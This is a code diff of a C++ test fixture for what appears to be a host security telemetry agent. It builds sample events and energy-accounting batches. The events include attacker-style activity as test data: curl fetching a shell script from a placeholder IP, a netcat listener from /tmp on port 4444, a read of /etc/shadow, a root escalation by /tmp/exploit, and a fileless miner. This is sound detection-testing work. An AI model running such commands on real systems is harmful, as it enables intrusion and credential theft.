@@ -31,17 +31,55 @@ inline protocol::Event sample_event(uint64_t time_ns, const std::string& host,
                     "/slurm/uid_1001/job_42/step_0"};
   switch (kind) {
     case protocol::EventKind::kProcessExec:
-      event.body =
-          protocol::ProcessExec{"/usr/bin/curl", {"curl", "-s", "http://198.51.100.7/x.sh"},
-                                false,           "curl -s http://198.51.100.7/x.sh",
-                                "/bin/bash",     "bash job.sh"};
+      event.body = protocol::ProcessExec{"/usr/bin/curl",
+                                         {"curl", "-s", "http://198.51.100.7/x.sh"},
+                                         false,
+                                         "curl -s http://198.51.100.7/x.sh",
+                                         "/bin/bash",
+                                         "bash job.sh",
+                                         "/home/alice",
+                                         "",
+                                         0,
+                                         {{4242, time_ns - 10, "/bin/bash", "bash job.sh"}}};
       break;
     case protocol::EventKind::kProcessExit:
-      event.body = protocol::ProcessExit{0, 9, "/usr/bin/curl"};
+      event.body = protocol::ProcessExit{0, 9, "/usr/bin/curl", 1'500'000, 250'000};
       break;
     case protocol::EventKind::kNetworkConnect:
       event.body = protocol::NetworkConnect{protocol::Transport::kTcp, false, "198.51.100.7", 443,
                                             "/usr/bin/curl"};
+      break;
+    case protocol::EventKind::kProcessFork:
+      event.body = protocol::ProcessFork{4243, time_ns - 5, "/bin/bash"};
+      break;
+    case protocol::EventKind::kNetworkAccept:
+      event.body =
+          protocol::NetworkAccept{protocol::Transport::kTcp, true,           "2001:db8::1", 22,
+                                  "/usr/sbin/sshd",          "2001:db8::99", 51000};
+      break;
+    case protocol::EventKind::kNetworkListen:
+      event.body = protocol::NetworkListen{
+          protocol::Transport::kUdp, false, "", 0, "/tmp/nc", "0.0.0.0", 4444};
+      break;
+    case protocol::EventKind::kFileOpen:
+      event.body = protocol::FileOpen{"/etc/shadow", 0, false, false, false, "/usr/bin/cat", 0};
+      break;
+    case protocol::EventKind::kPrivilegeChange: {
+      protocol::PrivilegeChange change;
+      change.syscall = "setresuid";
+      change.old_uid = change.old_euid = 1001;
+      change.new_euid = 0;
+      change.new_cap_effective = 0x1ffffffffff;
+      change.image = "/tmp/exploit";
+      event.body = change;
+      break;
+    }
+    case protocol::EventKind::kPtrace:
+      event.body = protocol::Ptrace{16, 1, 0, "/usr/lib/systemd/systemd", "/usr/bin/gdb", -1};
+      break;
+    case protocol::EventKind::kFilelessExec:
+      event.body =
+          protocol::FilelessExec{"/memfd:x (deleted)", {"x", "-o", "pool"}, "x -o pool", true};
       break;
   }
   return event;
@@ -81,6 +119,9 @@ inline protocol::Batch sample_batch(uint64_t sequence, const std::string& host =
   job.cpu_seconds = 8;
   job.energy_joules = 90;
   job.carbon_gco2e = 1.0;
+  job.workload.account = "physics";
+  job.cpu_joules = 70;
+  job.idle_joules = 20;
   protocol::WorkloadEnergy idle;
   idle.start_ns = start;
   idle.end_ns = end;
@@ -89,6 +130,10 @@ inline protocol::Batch sample_batch(uint64_t sequence, const std::string& host =
   idle.carbon_gco2e = 0.5;
   batch.workload_energy = {job, idle};
   batch.status = {3, 1000, 0, "core-1.0"};
+  batch.status.drops_by_source = {{"ringbuf.process_exec", 3}};
+  batch.status.ringbuf_size_bytes = 8 << 20;
+  batch.status.ringbuf_used_bytes = 128;
+  batch.status.kinds_off = {"ptrace"};
   return batch;
 }
 
